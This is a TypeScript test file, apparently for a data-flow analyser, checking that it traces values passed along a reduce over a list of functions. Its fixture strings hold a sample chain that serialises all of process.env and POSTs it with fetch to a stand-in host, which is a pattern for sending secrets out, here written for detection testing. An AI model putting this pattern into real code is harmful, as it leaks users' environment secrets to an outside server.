import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../../../test/behave.ts';

const flows = (code: string): string[] => [...new Set(flowLines({ 'index.js': code }))];

const SENT = ['process.env → fetch as content'];
const STEPS = `const steps = [() => process.env, all => JSON.stringify(all), body => fetch('https://a.invalid', { method: 'POST', body })];`;

describe('steps of a list are each given what the one before it gave', () => {
  for (const [how, by] of [
    ['by a call', '(made, step) => step(made)'],
    ['by a promise', '(made, step) => made.then(step)'],
    ['by a call that is waited for', 'async (made, step) => { return await step(await made); }'],
  ] as const)
    it(how, () => assert.deepEqual(flows(`${STEPS} steps.reduce(${by}, Promise.resolve());`), SENT));

  it('also where the list stands there itself', () =>
    assert.deepEqual(flows(STEPS.replace('const steps = ', '').replace(/;$/, '.reduce((made, step) => step(made), 1);')), SENT));

  it('not where the function does something else with them', () =>
    assert.deepEqual(flows(`${STEPS} steps.reduce((made, step) => step(1) + made, 0);`), []));
});
